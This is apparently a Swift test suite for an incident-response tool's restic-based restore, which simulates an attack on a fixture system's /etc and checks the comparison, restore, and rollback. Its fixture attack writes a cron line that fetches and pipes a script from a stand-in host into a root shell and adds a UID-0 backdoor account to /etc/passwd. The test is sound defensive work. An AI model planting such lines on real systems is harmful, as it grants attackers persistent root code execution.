import AtttTestSupport
import Foundation
import HardeningCore
import HostAccess
import IncidentResponse
import Remediation
import Testing

/// Bước 3 (Điều 11 khoản 2 điểm a) through the library the command calls: a real restic repository
/// made the way the backup job makes it, an attacked tree, the copy staged and compared, put in place
/// as one transaction equal to `restic dump`, and rolled back to the attacked tree.
///
/// The repository is in its own directory under the tree's /media (a removable disk, as BAK-001 judges
/// a target); it is only read, so no separate file system is needed.
@Suite(.enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/restic") && geteuid() == 0,
                "needs Debian's restic (scripts/deps.sh), and root: restic restores the files' owners only as root"))
struct RestoreTests {
    let host: FixtureHost
    let env: [String: String]
    let snapshot: String

    init() throws {
        host = try FixtureHost("debian12-desktop")
        try host.write("/etc/restic/password", "Mat-khau-kho-sao-luu-1\n")
        try host.write("/etc/restic/env", "export RESTIC_REPOSITORY=/media/usb/restic\nRESTIC_PASSWORD_FILE=\"/etc/restic/password\"\n")
        try host.write("/etc/hosts", "127.0.0.1 localhost\n")
        try FileManager.default.createDirectory(at: host.url("/media/usb"), withIntermediateDirectories: true)
        env = ["RESTIC_REPOSITORY": host.url("/media/usb/restic").path, "RESTIC_PASSWORD_FILE": host.url("/etc/restic/password").path, "RESTIC_CACHE_DIR": host.url("/media/usb/cache").path]
        let initialised = try Self.run("/usr/bin/restic", ["init"], env: env)
        try #require(initialised.status == 0, "\(initialised.stderr)")
        // The job's command, run in the tree: restic names a relative path as given, so the
        // snapshot holds /etc/…, as on a PC.
        let backup = try Self.run("/bin/sh", ["-c", "cd \"$0\" && exec restic backup --json etc", host.root.path], env: env)
        try #require(backup.status == 0, "\(backup.stderr)")
        let summary = try #require(backup.stdout.split(separator: "\n").last { $0.contains("\"summary\"") })
        snapshot = try #require((try JSONSerialization.jsonObject(with: Data(summary.utf8)) as? [String: Any])?["snapshot_id"] as? String)
        try host.write("/var/lib/attt/backup/last.json", """
            {"time": "\(ISO8601DateFormatter().string(from: Date().addingTimeInterval(-600)))", "exitCode": 0, "tool": "restic", "target": "/media/usb/restic", "paths": ["/etc"], "snapshot": "\(snapshot)"}
            """)
    }

    static func run(_ program: String, _ arguments: [String], env: [String: String]) throws -> AtttBinary.Output {
        try AtttBinary.run(executable: URL(fileURLWithPath: program), arguments, environment: env)
    }

    func tree() throws -> [String: String] {
        try snapshotTree(host.root).filter { !$0.key.hasPrefix("var/lib/attt") && !$0.key.hasPrefix(".attt-restore-") }
    }

    func attack() throws {
        try host.append("/etc/passwd", "sysadm:x:0:0::/root:/bin/bash\n")
        try host.write("/etc/sysctl.conf", "net.ipv4.ip_forward = 1\n")
        try host.remove("/etc/shells")
        try host.remove("/etc/hostname")
        try host.write("/etc/cron.d/evil", "* * * * * root curl -s http://6.6.6.6/x | sh\n")
        try host.write("/etc/machine-id", "00000000000000000000000000000000\n")
        // Isolated meanwhile: the pin must survive the restore.
        try host.write("/etc/hosts", "127.0.0.1 localhost\n10.231.7.1 thu-thap.xa.vn # attt-isolation\n")
    }

    func source(since: Date? = nil, snapshot: String? = nil) throws -> BackupSource {
        try BackupSource.open(host: HostRoot(host.root.path), envFile: "/etc/restic/env", suspectedStart: since, snapshot: snapshot)
    }

    @Test func theComparisonIsExactlyTheAttack() throws {
        try attack()
        let before = try tree()
        let restore = Restore(host: HostRoot(host.root.path))
        let preview = try restore.prepare(source: try source(), scopes: [.system], id: "test")
        let changes = preview.selection.changes.map { "\($0.kind.rawValue) \($0.path)" }
        #expect(Set(changes) == ["changed /etc/passwd", "changed /etc/sysctl.conf", "missing /etc/hostname", "missing /etc/shells", "not-in-backup /etc/cron.d/evil"], "\(changes)")
        #expect(preview.selection.skipped.map(\.path) == ["/etc/machine-id"])
        #expect(preview.areas == ["/.attt-restore-test"])
        let mode = try FileManager.default.attributesOfItem(atPath: host.url("/.attt-restore-test/stage").path)[.posixPermissions] as? Int
        #expect(mode == 0o700)
        restore.discard(preview)
        #expect(!FileManager.default.fileExists(atPath: host.url("/.attt-restore-test").path))
        #expect(try tree() == before)
    }

    @Test func theRestoreEqualsResticDumpAndRollsBack() throws {
        try attack()
        let attacked = try tree()
        let restore = Restore(host: HostRoot(host.root.path))
        let preview = try restore.prepare(source: try source(), scopes: [.system], id: "test")
        let journal = try restore.apply(preview, officer: "can-bo")
        #expect(journal.state == .applied, "\(journal.error ?? "")")
        for path in ["/etc/passwd", "/etc/sysctl.conf", "/etc/shells", "/etc/hostname"] {
            let dumped = try Self.run("/usr/bin/restic", ["dump", snapshot, path], env: env)
            let restored = try Data(contentsOf: host.url(path))
            #expect(dumped.status == 0 && dumped.data == restored, "\(path)")
        }
        #expect(!FileManager.default.fileExists(atPath: host.url("/etc/cron.d/evil").path))
        #expect(try host.read("/etc/machine-id") == "00000000000000000000000000000000\n")
        #expect(try host.read("/etc/hosts") == "127.0.0.1 localhost\n10.231.7.1 thu-thap.xa.vn # attt-isolation\n")
        // The stage is gone; the attacked files are kept beside the transaction.
        #expect(!FileManager.default.fileExists(atPath: host.url("/.attt-restore-test").path))
        #expect(Restore.keptDirectories(journal) == ["/.attt-restore-\(journal.id)/kept"])
        let keptDir = host.url("/.attt-restore-\(journal.id)/kept")
        let kept = try FileManager.default.contentsOfDirectory(atPath: keptDir.path).map { try String(contentsOf: keptDir.appendingPathComponent($0), encoding: .utf8) }
        #expect(kept.contains { $0.contains("sysadm:x:0:0") } && kept.contains { $0.contains("6.6.6.6") } && kept.contains("net.ipv4.ip_forward = 1\n"))

        let rolledBack = try Applier(host: HostRoot(host.root.path)).rollback(nil)
        #expect(rolledBack.state == .rolledBack)
        #expect(try tree() == attacked)
    }

    /// The latest copy was made after the attack may have begun: refused unless a snapshot is named.
    @Test func aCopyNewerThanTheSuspectedStartNeedsANamedSnapshot() throws {
        #expect(throws: BackupSource.Refused.self) { try source(since: Date().addingTimeInterval(-3600)) }
        #expect(try source(since: Date().addingTimeInterval(-3600), snapshot: snapshot).snapshot == snapshot)
    }

    /// A repository that does not open with the password is refused by `restic check`, before anything is staged.
    @Test func aRepositoryThatFailsItsCheckIsRefused() throws {
        try host.write("/etc/restic/password", "sai-mat-khau\n")
        let before = try tree()
        let restore = Restore(host: HostRoot(host.root.path))
        #expect(throws: BackupSource.Refused.self) { try restore.prepare(source: try source(), scopes: [.system], id: "test") }
        #expect(try tree() == before)
    }
}
